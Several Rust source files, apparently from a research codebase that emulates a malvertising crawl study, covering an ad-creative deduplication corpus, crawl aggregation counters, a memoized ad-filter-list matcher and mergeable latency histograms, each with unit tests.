        Self::default()
    }

    /// Rebuilds a corpus from checkpoint parts: the unique ads (each
    /// re-keyed by its [`creative_key`]) plus the observation total that
    /// [`AdCorpus::total_observations`] reported when the snapshot was
    /// taken.
    pub fn from_parts(ads: Vec<UniqueAd>, total_observations: u64) -> Self {
        AdCorpus {
            ads: ads.into_iter().map(|ad| (ad.creative_key, ad)).collect(),
            total_observations,
        }
    }

    /// Records one observation. Returns the observation's [`creative_key`]
    /// so callers can run their own per-creative tallies without re-hashing
    /// (or re-cloning) the creative; `None` means the observation carried no
    /// creative and was skipped.
    pub fn record(&mut self, obs: &AdObservation) -> Option<u64> {
        if obs.failed && obs.creative_html.is_empty() {
            // Failed frames carry no creative to deduplicate on.
            return None;
        }
        self.total_observations += 1;
        let key = creative_key(&obs.creative_html);
        match self.ads.entry(key) {
            Entry::Occupied(mut e) => {
                let ad = e.get_mut();
                ad.observations += 1;
                // Canonical observation: the minimum (time, url) pair. Both
                // fields move together so the pair stays a real observation.
                let candidate = (obs.time, obs.request_url.to_string());
                let current = (ad.first_seen, ad.request_url.to_string());
                if candidate < current {
                    ad.first_seen = obs.time;
                    ad.request_url = obs.request_url.clone();
                    ad.final_url = obs.final_url.clone();
                }
                if obs.time > ad.last_seen {
                    ad.last_seen = obs.time;
                }
                if let Err(pos) = ad.sites.binary_search(&obs.site) {
                    ad.sites.insert(pos, obs.site);
                }
                if obs.chain.len() > ad.max_chain.len()
                    || (obs.chain.len() == ad.max_chain.len()
                        && chain_cmp(&obs.chain, &ad.max_chain) == Ordering::Less)
                {
                    ad.max_chain = obs.chain.clone();
                }
            }
            Entry::Vacant(e) => {
                e.insert(UniqueAd {
                    creative_html: obs.creative_html.clone(),
                    creative_key: key,
                    first_seen: obs.time,
                    request_url: obs.request_url.clone(),
                    final_url: obs.final_url.clone(),
                    last_seen: obs.time,
                    observations: 1,
                    sites: vec![obs.site],
                    max_chain: obs.chain.clone(),
                });
            }
        }
        Some(key)
    }

    /// Number of unique advertisements.
    pub fn unique_count(&self) -> usize {
        self.ads.len()
    }

    /// Total observations recorded.
    pub fn total_observations(&self) -> u64 {
        self.total_observations
    }

    /// Iterates unique ads in a deterministic order (sorted by creative).
    pub fn ads_sorted(&self) -> Vec<&UniqueAd> {
        let mut v: Vec<&UniqueAd> = self.ads.values().collect();
        v.sort_by(|a, b| a.creative_html.cmp(&b.creative_html));
        v
    }

    /// Looks up an ad by creative document.
    pub fn get(&self, creative_html: &str) -> Option<&UniqueAd> {
        self.ads.get(&creative_key(creative_html))
    }

    /// Looks up an ad by its [`creative_key`].
    pub fn get_by_key(&self, key: u64) -> Option<&UniqueAd> {
        self.ads.get(&key)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(creative: &str, site: u32, day: u32, chain_len: usize) -> AdObservation {
        let request_url = Url::parse(&format!("http://srv{site}.net/serve?pub={site}")).unwrap();
        let chain: Vec<Url> = (0..chain_len)
            .map(|i| Url::parse(&format!("http://hop{i}.net/serve")).unwrap())
            .collect();
        AdObservation {
            site: SiteId(site),
            time: SimTime::at(day, 0),
            request_url: request_url.clone(),
            final_url: request_url,
            chain,
            creative_html: creative.to_string(),
            sandboxed: false,
            failed: false,
            matched_rule: "||srv^".to_string(),
        }
    }

    #[test]
    fn dedup_on_creative() {
        let mut corpus = AdCorpus::new();
        corpus.record(&obs("<html>A</html>", 1, 0, 1));
        corpus.record(&obs("<html>A</html>", 2, 1, 1));
        corpus.record(&obs("<html>B</html>", 1, 0, 1));
        assert_eq!(corpus.unique_count(), 2);
        assert_eq!(corpus.total_observations(), 3);
        let a = corpus.get("<html>A</html>").unwrap();
        assert_eq!(a.observations, 2);
        assert_eq!(a.sites.len(), 2);
        assert_eq!(a.creative_key, creative_key("<html>A</html>"));
        assert_eq!(
            corpus.get_by_key(a.creative_key).unwrap().creative_html,
            "<html>A</html>"
        );
    }

    #[test]
    fn record_returns_creative_key() {
        let mut corpus = AdCorpus::new();
        let key = corpus.record(&obs("<html>A</html>", 1, 0, 1));
        assert_eq!(key, Some(creative_key("<html>A</html>")));
    }

    #[test]
    fn first_seen_is_minimum_regardless_of_order() {
        let mut corpus = AdCorpus::new();
        corpus.record(&obs("<html>A</html>", 1, 5, 1));
        corpus.record(&obs("<html>A</html>", 1, 2, 1));
        corpus.record(&obs("<html>A</html>", 1, 9, 1));
        assert_eq!(corpus.get("<html>A</html>").unwrap().first_seen, SimTime::at(2, 0));
    }

    #[test]
    fn max_chain_kept() {
        let mut corpus = AdCorpus::new();
        corpus.record(&obs("<html>A</html>", 1, 0, 2));
        corpus.record(&obs("<html>A</html>", 1, 1, 7));
        corpus.record(&obs("<html>A</html>", 1, 2, 3));
        assert_eq!(corpus.get("<html>A</html>").unwrap().max_chain.len(), 7);
    }

    #[test]
    fn max_chain_tie_break_is_order_insensitive() {
        // Two distinct chains of equal length: whichever arrives first, the
        // lexicographically smaller one must win.
        let mut a = obs("<html>A</html>", 1, 0, 0);
        a.chain = vec![Url::parse("http://aaa.net/serve").unwrap()];
        let mut b = obs("<html>A</html>", 1, 1, 0);
        b.chain = vec![Url::parse("http://zzz.net/serve").unwrap()];

        let mut forward = AdCorpus::new();
        forward.record(&a);
        forward.record(&b);
        let mut backward = AdCorpus::new();
        backward.record(&b);
        backward.record(&a);
        let f = &forward.get("<html>A</html>").unwrap().max_chain;
        let bk = &backward.get("<html>A</html>").unwrap().max_chain;
        assert_eq!(f, bk);
        assert_eq!(f[0].to_string(), "http://aaa.net/serve");
    }

    #[test]
    fn sites_kept_sorted() {
        let mut corpus = AdCorpus::new();
        for site in [9, 3, 7, 3, 1] {
            corpus.record(&obs("<html>A</html>", site, 0, 1));
        }
        let sites = &corpus.get("<html>A</html>").unwrap().sites;
        assert_eq!(sites, &[SiteId(1), SiteId(3), SiteId(7), SiteId(9)]);
    }

    #[test]
    fn order_insensitive_aggregation() {
        let observations = vec![
            obs("<html>A</html>", 1, 3, 2),
            obs("<html>B</html>", 2, 1, 5),
            obs("<html>A</html>", 3, 1, 4),
            obs("<html>B</html>", 1, 2, 1),
        ];
        let mut forward = AdCorpus::new();
        for o in &observations {
            forward.record(o);
        }
        let mut backward = AdCorpus::new();
        for o in observations.iter().rev() {
            backward.record(o);
        }
        let f = forward.ads_sorted();
        let b = backward.ads_sorted();
        assert_eq!(f.len(), b.len());
        for (x, y) in f.iter().zip(&b) {
            assert_eq!(x.creative_html, y.creative_html);
            assert_eq!(x.creative_key, y.creative_key);
            assert_eq!(x.first_seen, y.first_seen);
            assert_eq!(x.observations, y.observations);
            assert_eq!(x.max_chain, y.max_chain);
            assert_eq!(x.request_url, y.request_url);
            assert_eq!(x.sites, y.sites);
        }
    }

    #[test]
    fn from_parts_round_trips_the_corpus() {
        let mut corpus = AdCorpus::new();
        for o in [
            obs("<html>A</html>", 1, 3, 2),
            obs("<html>B</html>", 2, 1, 5),
            obs("<html>A</html>", 3, 1, 4),
        ] {
            corpus.record(&o);
        }
        let ads: Vec<UniqueAd> = corpus.ads_sorted().into_iter().cloned().collect();
        let rebuilt = AdCorpus::from_parts(ads, corpus.total_observations());
        assert_eq!(rebuilt.unique_count(), corpus.unique_count());
        assert_eq!(rebuilt.total_observations(), corpus.total_observations());
        for (x, y) in rebuilt.ads_sorted().iter().zip(corpus.ads_sorted()) {
            assert_eq!(x.creative_key, y.creative_key);
            assert_eq!(x.first_seen, y.first_seen);
            assert_eq!(x.observations, y.observations);
            assert_eq!(x.sites, y.sites);
            assert_eq!(x.max_chain, y.max_chain);
        }
        assert!(rebuilt.get("<html>B</html>").is_some());
    }

    #[test]
    fn failed_empty_observations_skipped() {
        let mut corpus = AdCorpus::new();
        let mut o = obs("", 1, 0, 1);
        o.failed = true;
        assert_eq!(corpus.record(&o), None);
        assert_eq!(corpus.unique_count(), 0);
        assert_eq!(corpus.total_observations(), 0);
    }
}
