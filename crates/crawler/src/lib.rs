//! # malvert-crawler
//!
//! The crawl harness — the study's Selenium analogue.
//!
//! §3.1 of the paper: each website was visited once per day and refreshed
//! five times; the crawler rendered pages in a real browser, captured all
//! HTTP traffic, and used EasyList to tell advertisement iframes from other
//! iframes, storing each ad iframe as a standalone HTML document.
//!
//! This crate does the same over the simulated Web: it drives the emulated
//! browser through the visit schedule, matches every iframe URL against the
//! filter list, and produces [`AdObservation`]s (plus page-level records for
//! the §4.4 sandbox analysis). The shared `malvert-engine` work-stealing
//! pool parallelizes the crawl; results are aggregated order-insensitively
//! (see [`CrawlAggregate`]) so the study remains deterministic.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod aggregate;
pub mod corpus;
pub mod engine;
pub mod harness;

pub use aggregate::CrawlAggregate;
pub use corpus::{creative_key, AdCorpus, UniqueAd};
pub use engine::{FilterCounts, FilterEngine, FilterStats};
pub use malvert_adscript::{ScriptCache, ScriptCounts, ScriptEngine, ScriptStats};
pub use harness::{
    visit_unit_key, AdObservation, CrawlConfig, Crawler, CrawlerBuilder, VisitRecord,
};
