//! Streaming crawl aggregation: folds [`VisitRecord`]s into the corpus and
//! census tallies as they arrive, so a paper-scale crawl never buffers its
//! visit records.

use crate::corpus::AdCorpus;
use crate::harness::VisitRecord;
use malvert_types::{ErrorCounters, SiteId};
use std::collections::{BTreeMap, HashMap};

/// Everything a crawl accumulates: the de-duplicated ad corpus plus every
/// census counter the study's crawl summary reports. One record is folded
/// in at a time via [`CrawlAggregate::absorb`], so memory stays bounded by
/// the corpus (unique creatives), not the visit count.
///
/// The fold is order-independent over complete visit sets: every counter is
/// a sum and the corpus keys ads by content hash, which is why the engine
/// can fold records in worker-completion order and still produce
/// byte-identical results at any worker count.
#[derive(Debug, Default)]
pub struct CrawlAggregate {
    /// The de-duplicated ad corpus.
    pub corpus: AdCorpus,
    /// Arbitration chain-length tallies per unique creative key.
    pub chain_lengths: HashMap<u64, BTreeMap<usize, u64>>,
    /// Ad observations per publisher site.
    pub site_ad_observations: HashMap<SiteId, u64>,
    /// `(total iframes, sandboxed iframes)` seen across all visits.
    pub iframe_census: (u64, u64),
    /// `(hijack exposures, hijacks blocked)` across all visits.
    pub hijack_counts: (u64, u64),
    /// Pages loaded.
    pub page_loads: u64,
    /// Crawl-error taxonomy totals.
    pub errors: ErrorCounters,
}

impl CrawlAggregate {
    /// A fresh, empty aggregate.
    pub fn new() -> Self {
        Self::default()
    }

    /// Folds one visit record into the aggregate.
    pub fn absorb(&mut self, record: &VisitRecord) {
        self.page_loads += 1;
        self.iframe_census.0 += record.total_iframes as u64;
        self.iframe_census.1 += record.sandboxed_iframes as u64;
        self.hijack_counts.0 += record.hijack_exposures as u64;
        self.hijack_counts.1 += record.hijacks_blocked as u64;
        self.errors.merge(&record.errors);
        if record.failed {
            self.errors.failed_visits += 1;
        }
        if record.degraded {
            self.errors.degraded_visits += 1;
        }
        for ad in &record.ads {
            *self.site_ad_observations.entry(ad.site).or_default() += 1;
            if let Some(key) = self.corpus.record(ad) {
                *self
                    .chain_lengths
                    .entry(key)
                    .or_default()
                    .entry(ad.chain.len())
                    .or_default() += 1;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use malvert_types::SimTime;

    fn record(site: u32, failed: bool) -> VisitRecord {
        VisitRecord {
            site: SiteId(site),
            time: SimTime::at(0, 0),
            ads: Vec::new(),
            total_iframes: 3,
            sandboxed_iframes: 1,
            hijack_exposures: 2,
            hijacks_blocked: 1,
            failed,
            errors: ErrorCounters::default(),
            degraded: false,
        }
    }

    #[test]
    fn absorb_tallies_census_counters() {
        let mut agg = CrawlAggregate::new();
        agg.absorb(&record(1, false));
        agg.absorb(&record(2, true));
        assert_eq!(agg.page_loads, 2);
        assert_eq!(agg.iframe_census, (6, 2));
        assert_eq!(agg.hijack_counts, (4, 2));
        assert_eq!(agg.errors.failed_visits, 1);
        assert_eq!(agg.corpus.unique_count(), 0);
    }
}
