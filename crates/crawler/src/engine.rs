//! The per-worker filter engine: reusable match scratch plus a bounded
//! memo of recent verdicts, with shared hit/miss counters.
//!
//! The crawl stage asks the filter list the same question over and over —
//! the same creative and tracker URLs recur across page loads and refresh
//! visits. A [`FilterEngine`] wraps the [`FilterSet`] with:
//!
//! * a [`malvert_filterlist::MatchScratch`], so steady-state matching does
//!   not allocate;
//! * a bounded memo from `(normalized URL, context class)` to the previous
//!   [`MatchResult`]. Keys are the *full* normalized strings, never hashes:
//!   a memo hit returns a verdict stored under a byte-identical key for a
//!   pure function of that key, so cache hits can never change
//!   classification output — only skip recomputing it.
//!
//! Each worker thread owns its own engine (the memo is not shared), which
//! keeps the hot path lock-free. The consequence: *which* lookups hit the
//! memo depends on how the scheduler dealt visits to workers, so the
//! hit/miss split is not deterministic — the deterministic quantity is the
//! total lookup count. [`FilterStats`] carries all of them; the metrics
//! layer strips the scheduling-dependent ones from deterministic residues.

use malvert_filterlist::{FilterSet, MatchResult, MatchScratch, RequestContext, ResourceType};
use malvert_types::Url;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// A point-in-time snapshot of [`FilterStats`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FilterCounts {
    /// Filter queries answered (memo hits included).
    pub lookups: u64,
    /// Queries answered from a per-worker memo.
    pub cache_hits: u64,
    /// Queries that ran the matcher.
    pub cache_misses: u64,
    /// Candidate rules the token index actually evaluated across all
    /// misses (the naive scan would have evaluated the whole list each
    /// time).
    pub candidates_evaluated: u64,
}

/// Shared filter-engine counters. Cloning hands out another handle to the
/// same tallies; all counters are relaxed atomics (pure tallies, no
/// ordering obligations).
#[derive(Debug, Clone, Default)]
pub struct FilterStats {
    inner: Arc<StatsInner>,
}

#[derive(Debug, Default)]
struct StatsInner {
    lookups: AtomicU64,
    hits: AtomicU64,
    misses: AtomicU64,
    candidates: AtomicU64,
}

impl FilterStats {
    /// Fresh zeroed counters.
    pub fn new() -> Self {
        Self::default()
    }

    /// Filter queries answered so far (memo hits included).
    pub fn lookups(&self) -> u64 {
        self.inner.lookups.load(Ordering::Relaxed)
    }

    /// Queries answered from a per-worker memo.
    pub fn cache_hits(&self) -> u64 {
        self.inner.hits.load(Ordering::Relaxed)
    }

    /// Queries that ran the matcher.
    pub fn cache_misses(&self) -> u64 {
        self.inner.misses.load(Ordering::Relaxed)
    }

    /// Candidate rules evaluated by the token index across all misses.
    pub fn candidates_evaluated(&self) -> u64 {
        self.inner.candidates.load(Ordering::Relaxed)
    }

    /// Snapshots every counter at once.
    pub fn snapshot(&self) -> FilterCounts {
        FilterCounts {
            lookups: self.lookups(),
            cache_hits: self.cache_hits(),
            cache_misses: self.cache_misses(),
            candidates_evaluated: self.candidates_evaluated(),
        }
    }

    fn record_hit(&self) {
        self.inner.lookups.fetch_add(1, Ordering::Relaxed);
        self.inner.hits.fetch_add(1, Ordering::Relaxed);
    }

    fn record_miss(&self, candidates: u64) {
        self.inner.lookups.fetch_add(1, Ordering::Relaxed);
        self.inner.misses.fetch_add(1, Ordering::Relaxed);
        self.inner
            .candidates
            .fetch_add(candidates, Ordering::Relaxed);
    }
}

/// One worker's matching front end over a shared [`FilterSet`].
#[derive(Debug)]
pub struct FilterEngine<'a> {
    set: &'a FilterSet,
    scratch: MatchScratch,
    memo: HashMap<String, MatchResult>,
    key_buf: String,
    capacity: usize,
    stats: FilterStats,
}

impl<'a> FilterEngine<'a> {
    /// A fresh engine over `set`. `capacity` bounds the memo entry count
    /// (0 disables memoization); `stats` receives this engine's tallies.
    pub fn new(set: &'a FilterSet, capacity: usize, stats: FilterStats) -> Self {
        FilterEngine {
            set,
            scratch: MatchScratch::default(),
            memo: HashMap::new(),
            key_buf: String::new(),
            capacity,
            stats,
        }
    }

    /// Matches `url` in `ctx`, consulting the memo first. Returns exactly
    /// what [`FilterSet::matches`] would — memoization and the token index
    /// are invisible in the result.
    pub fn matches(&mut self, url: &Url, ctx: &RequestContext) -> MatchResult {
        if self.capacity == 0 {
            let (result, candidates) = self.set.matches_counted(url, ctx, &mut self.scratch);
            self.stats.record_miss(candidates);
            return result;
        }
        // Memo key: the same normalized URL text the matcher sees, plus
        // the context class (source host + resource type) — everything the
        // match outcome can depend on.
        url.normalize_into(&mut self.key_buf);
        self.key_buf.push('\n');
        if let Some(host) = &ctx.source_host {
            self.key_buf.push_str(host.as_str());
        }
        self.key_buf.push('\n');
        self.key_buf.push(resource_tag(ctx.resource));
        if let Some(result) = self.memo.get(self.key_buf.as_str()) {
            self.stats.record_hit();
            return result.clone();
        }
        let (result, candidates) = self.set.matches_counted(url, ctx, &mut self.scratch);
        self.stats.record_miss(candidates);
        // Bounded memo: wholesale clear at capacity. Crude but branch-cheap
        // and allocation-friendly; the working set (distinct creative and
        // tracker URLs) is far smaller than any sensible capacity, so
        // clears are rare.
        if self.memo.len() >= self.capacity {
            self.memo.clear();
        }
        self.memo.insert(self.key_buf.clone(), result.clone());
        result
    }

    /// The memo's current entry count (for tests and diagnostics).
    pub fn memo_len(&self) -> usize {
        self.memo.len()
    }
}

fn resource_tag(resource: ResourceType) -> char {
    match resource {
        ResourceType::Subdocument => 's',
        ResourceType::Script => 'j',
        ResourceType::Image => 'i',
        ResourceType::Document => 'd',
        ResourceType::Other => 'o',
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use malvert_types::DomainName;

    fn set() -> FilterSet {
        FilterSet::parse("||ads.com^\n@@||ads.com/ok/\n/banner/$subdocument")
    }

    fn ctx(source: &str) -> RequestContext {
        RequestContext::iframe_from(&DomainName::parse(source).unwrap())
    }

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn memo_hits_return_identical_results() {
        let filter = set();
        let stats = FilterStats::new();
        let mut engine = FilterEngine::new(&filter, 128, stats.clone());
        let cases = [
            "http://ads.com/serve?slot=1",
            "http://ads.com/ok/fine",
            "http://clean.org/page",
            "http://pub.net/banner/top",
        ];
        let first: Vec<MatchResult> = cases
            .iter()
            .map(|u| engine.matches(&url(u), &ctx("pub.net")))
            .collect();
        let second: Vec<MatchResult> = cases
            .iter()
            .map(|u| engine.matches(&url(u), &ctx("pub.net")))
            .collect();
        assert_eq!(first, second);
        for (case, result) in cases.iter().zip(&first) {
            assert_eq!(result, &filter.matches(&url(case), &ctx("pub.net")));
        }
        let counts = stats.snapshot();
        assert_eq!(counts.lookups, 8);
        assert_eq!(counts.cache_misses, 4);
        assert_eq!(counts.cache_hits, 4);
    }

    #[test]
    fn context_class_is_part_of_the_key() {
        // `$subdocument` rules match iframes but not scripts: the memo must
        // keep those verdicts apart.
        let filter = set();
        let mut engine = FilterEngine::new(&filter, 128, FilterStats::new());
        let u = url("http://pub.net/banner/top");
        let iframe = ctx("pub.net");
        let script = RequestContext {
            source_host: Some(DomainName::parse("pub.net").unwrap()),
            resource: ResourceType::Script,
        };
        assert!(engine.matches(&u, &iframe).is_ad());
        assert!(!engine.matches(&u, &script).is_ad());
        // And again, now both answered from the memo.
        assert!(engine.matches(&u, &iframe).is_ad());
        assert!(!engine.matches(&u, &script).is_ad());

        // Source host distinguishes keys too ($domain= / third-party).
        let third = FilterSet::parse("||w.com^$third-party");
        let mut engine = FilterEngine::new(&third, 128, FilterStats::new());
        let wu = url("http://w.com/x");
        assert!(engine.matches(&wu, &ctx("pub.net")).is_ad());
        assert!(!engine.matches(&wu, &ctx("www.w.com")).is_ad());
    }

    #[test]
    fn capacity_bounds_memo_and_zero_disables() {
        let filter = set();
        let stats = FilterStats::new();
        let mut engine = FilterEngine::new(&filter, 4, stats.clone());
        for i in 0..100 {
            engine.matches(&url(&format!("http://clean.org/p{i}")), &ctx("pub.net"));
        }
        assert!(engine.memo_len() <= 4, "memo exceeded capacity");

        let stats = FilterStats::new();
        let mut engine = FilterEngine::new(&filter, 0, stats.clone());
        let u = url("http://ads.com/serve");
        engine.matches(&u, &ctx("pub.net"));
        engine.matches(&u, &ctx("pub.net"));
        assert_eq!(engine.memo_len(), 0);
        let counts = stats.snapshot();
        assert_eq!(counts.cache_hits, 0);
        assert_eq!(counts.cache_misses, 2);
    }

    #[test]
    fn stats_add_up() {
        let filter = set();
        let stats = FilterStats::new();
        let mut engine = FilterEngine::new(&filter, 16, stats.clone());
        for i in 0..10 {
            // Half repeats.
            let u = url(&format!("http://ads.com/serve?slot={}", i % 5));
            engine.matches(&u, &ctx("pub.net"));
        }
        let counts = stats.snapshot();
        assert_eq!(counts.lookups, 10);
        assert_eq!(counts.cache_hits + counts.cache_misses, counts.lookups);
        assert_eq!(counts.cache_hits, 5);
        assert!(counts.candidates_evaluated >= counts.cache_misses);
    }
}
