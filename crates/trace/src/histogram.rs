//! Fixed log-bucket latency histograms, deterministically mergeable.
//!
//! Bucket `i` holds durations whose floor-log2 is `i` (bucket 0 also takes
//! zero), so the bucket layout is fixed by construction and two histograms
//! merge by element-wise addition — an associative, commutative operation,
//! which is what lets per-worker histograms collapse into per-stage ones in
//! any order with an identical result.

use crate::event::SpanKind;
use serde::{Deserialize, Serialize};

/// Number of log2 buckets. Bucket 39 covers everything from `2^39` µs
/// (~6 days) up, far beyond any span this pipeline records.
pub const BUCKET_COUNT: usize = 40;

/// A power-of-two-bucket latency histogram over microsecond durations.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LogHistogram {
    /// Per-bucket counts (`BUCKET_COUNT` entries).
    buckets: Vec<u64>,
    /// Total recorded samples.
    count: u64,
}

impl Default for LogHistogram {
    fn default() -> Self {
        LogHistogram {
            buckets: vec![0; BUCKET_COUNT],
            count: 0,
        }
    }
}

impl LogHistogram {
    /// An empty histogram.
    pub fn new() -> Self {
        Self::default()
    }

    /// Rebuilds a histogram from raw parts (the atomic registry snapshots
    /// its lock-free buckets through this).
    pub(crate) fn from_raw(buckets: Vec<u64>, count: u64) -> LogHistogram {
        debug_assert_eq!(buckets.len(), BUCKET_COUNT);
        LogHistogram { buckets, count }
    }

    pub(crate) fn bucket_index(us: u64) -> usize {
        if us <= 1 {
            0
        } else {
            ((63 - us.leading_zeros()) as usize).min(BUCKET_COUNT - 1)
        }
    }

    /// Upper bound (inclusive) of bucket `index` in microseconds.
    pub fn bucket_upper_bound_us(index: usize) -> u64 {
        if index + 1 >= 63 {
            u64::MAX
        } else {
            (1u64 << (index + 1)) - 1
        }
    }

    /// Records one duration.
    pub fn record_us(&mut self, us: u64) {
        self.buckets[Self::bucket_index(us)] += 1;
        self.count += 1;
    }

    /// Merges another histogram into this one (element-wise addition).
    pub fn merge(&mut self, other: &LogHistogram) {
        for (mine, theirs) in self.buckets.iter_mut().zip(other.buckets.iter()) {
            *mine += *theirs;
        }
        self.count += other.count;
    }

    /// Total recorded samples.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// The per-bucket counts.
    pub fn buckets(&self) -> &[u64] {
        &self.buckets
    }

    /// Upper bound of the bucket containing the `q`-quantile sample.
    ///
    /// Total over every input: `q` is clamped into `[0.0, 1.0]` (`NaN`
    /// counts as `1.0`), `q = 0.0` answers with the smallest recorded
    /// bucket's bound, `q = 1.0` with the largest ([`Self::max_us`]), and
    /// an empty histogram returns `0` for every `q`.
    pub fn quantile_us(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let q = if q.is_nan() { 1.0 } else { q.clamp(0.0, 1.0) };
        // 1-based rank of the quantile sample. The epsilon keeps an exact
        // integer product (0.95 * 20 = 19.000...04 in f64) from rounding up
        // to the next rank and overshooting a bucket.
        let target = ((q * self.count as f64 - 1e-9).ceil() as u64).clamp(1, self.count);
        let mut cumulative = 0u64;
        for (index, &n) in self.buckets.iter().enumerate() {
            cumulative += n;
            if cumulative >= target {
                return Self::bucket_upper_bound_us(index);
            }
        }
        Self::bucket_upper_bound_us(BUCKET_COUNT - 1)
    }

    /// Upper bound of the highest non-empty bucket; `0` when empty.
    pub fn max_us(&self) -> u64 {
        self.buckets
            .iter()
            .rposition(|&n| n > 0)
            .map(Self::bucket_upper_bound_us)
            .unwrap_or(0)
    }

    /// A copy keeping only the (deterministic) sample count, with every
    /// bucket zeroed — what survives timestamp stripping: *which* spans ran
    /// and how many is seed-determined, *how long* they took is not.
    pub fn counts_only(&self) -> LogHistogram {
        LogHistogram {
            buckets: vec![0; self.buckets.len()],
            count: self.count,
        }
    }
}

/// Latency summary for one span kind, optionally restricted to one worker.
/// Layered into the study's `RunSummary`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SpanLatency {
    /// The span kind summarized.
    pub kind: SpanKind,
    /// Worker restriction; `None` means merged across all workers.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub worker: Option<u32>,
    /// The underlying histogram.
    pub hist: LogHistogram,
    /// Median latency (bucket upper bound), microseconds.
    pub p50_us: u64,
    /// 95th-percentile latency (bucket upper bound), microseconds.
    pub p95_us: u64,
    /// Maximum latency (bucket upper bound), microseconds.
    pub max_us: u64,
}

impl SpanLatency {
    /// Builds the summary from a recorded histogram.
    pub fn from_hist(kind: SpanKind, worker: Option<u32>, hist: LogHistogram) -> Self {
        let p50_us = hist.quantile_us(0.50);
        let p95_us = hist.quantile_us(0.95);
        let max_us = hist.max_us();
        SpanLatency {
            kind,
            worker,
            hist,
            p50_us,
            p95_us,
            max_us,
        }
    }

    /// The deterministic residue: span counts kept, every wall-clock-derived
    /// number zeroed. See [`LogHistogram::counts_only`].
    pub fn counts_only(&self) -> SpanLatency {
        SpanLatency {
            kind: self.kind,
            worker: self.worker,
            hist: self.hist.counts_only(),
            p50_us: 0,
            p95_us: 0,
            max_us: 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filled(values: &[u64]) -> LogHistogram {
        let mut h = LogHistogram::new();
        for &v in values {
            h.record_us(v);
        }
        h
    }

    #[test]
    fn bucket_boundaries() {
        assert_eq!(LogHistogram::bucket_index(0), 0);
        assert_eq!(LogHistogram::bucket_index(1), 0);
        assert_eq!(LogHistogram::bucket_index(2), 1);
        assert_eq!(LogHistogram::bucket_index(3), 1);
        assert_eq!(LogHistogram::bucket_index(4), 2);
        assert_eq!(LogHistogram::bucket_index(u64::MAX), BUCKET_COUNT - 1);
        assert_eq!(LogHistogram::bucket_upper_bound_us(0), 1);
        assert_eq!(LogHistogram::bucket_upper_bound_us(1), 3);
        assert_eq!(LogHistogram::bucket_upper_bound_us(2), 7);
    }

    #[test]
    fn merge_is_associative_and_commutative() {
        let a = filled(&[1, 5, 9, 200]);
        let b = filled(&[3, 3, 1_000_000]);
        let c = filled(&[0, 77, 4096, 4097]);

        // (a ⊕ b) ⊕ c == a ⊕ (b ⊕ c)
        let mut left = a.clone();
        left.merge(&b);
        left.merge(&c);
        let mut bc = b.clone();
        bc.merge(&c);
        let mut right = a.clone();
        right.merge(&bc);
        assert_eq!(left, right);

        // a ⊕ b == b ⊕ a
        let mut ab = a.clone();
        ab.merge(&b);
        let mut ba = b.clone();
        ba.merge(&a);
        assert_eq!(ab, ba);

        assert_eq!(left.count(), 11);
    }

    #[test]
    fn quantiles_and_max() {
        let h = filled(&[1, 1, 1, 1, 1, 1, 1, 1, 1, 1024]);
        // 9 of 10 samples in bucket 0 -> p50 is bucket 0's bound.
        assert_eq!(h.quantile_us(0.5), 1);
        // p95 target is the 10th sample -> the 1024 bucket (2^10..2^11-1).
        assert_eq!(h.quantile_us(0.95), 2047);
        assert_eq!(h.max_us(), 2047);
        assert_eq!(LogHistogram::new().quantile_us(0.5), 0);
        assert_eq!(LogHistogram::new().max_us(), 0);
    }

    #[test]
    fn quantile_edges_are_total() {
        // Empty: every q answers 0, even the out-of-range ones.
        let empty = LogHistogram::new();
        for q in [-1.0, 0.0, 0.5, 1.0, 2.0, f64::NAN] {
            assert_eq!(empty.quantile_us(q), 0);
        }

        // q = 0 is the smallest recorded bucket, q = 1 the largest; values
        // outside [0, 1] clamp to those, NaN counts as 1.
        let h = filled(&[1, 1024, 1_000_000]);
        assert_eq!(h.quantile_us(0.0), 1);
        assert_eq!(h.quantile_us(-3.5), 1);
        assert_eq!(h.quantile_us(1.0), h.max_us());
        assert_eq!(h.quantile_us(7.0), h.max_us());
        assert_eq!(h.quantile_us(f64::NAN), h.max_us());

        // Single-bucket histogram: every quantile is that bucket's bound.
        let single = filled(&[5, 5, 5, 5]);
        for q in [0.0, 0.25, 0.5, 0.95, 1.0] {
            assert_eq!(single.quantile_us(q), 7);
        }
    }

    #[test]
    fn quantile_rank_does_not_overshoot_on_exact_products() {
        // 0.95 * 20 = 19.000000000000004 in f64; the rank must stay 19 (the
        // last of the 1µs samples), not round up to the lone outlier.
        let mut h = LogHistogram::new();
        for _ in 0..19 {
            h.record_us(1);
        }
        h.record_us(1024);
        assert_eq!(h.quantile_us(0.95), 1);
        assert_eq!(h.quantile_us(1.0), 2047);
    }

    #[test]
    fn counts_only_keeps_count_zeroes_buckets() {
        let h = filled(&[10, 20, 30]);
        let c = h.counts_only();
        assert_eq!(c.count(), 3);
        assert!(c.buckets().iter().all(|&n| n == 0));
        // counts_only is idempotent and stable across timing jitter: two
        // histograms of the same sample count agree after reduction.
        let other = filled(&[9_999, 1, 2]);
        assert_eq!(other.counts_only(), c);
    }

    #[test]
    fn span_latency_round_trips() {
        let l = SpanLatency::from_hist(SpanKind::ClassifyAd, Some(2), filled(&[100, 200, 400]));
        let json = serde_json::to_string(&l).unwrap();
        let back: SpanLatency = serde_json::from_str(&json).unwrap();
        assert_eq!(back, l);
        let stripped = l.counts_only();
        assert_eq!(stripped.hist.count(), 3);
        assert_eq!(stripped.p95_us, 0);
    }
}
