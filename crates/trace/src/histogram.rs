//! Fixed log-bucket latency histograms, deterministically mergeable.
//!
//! Bucket `i` holds durations whose floor-log2 is `i` (bucket 0 also takes
//! zero), so the bucket layout is fixed by construction and two histograms
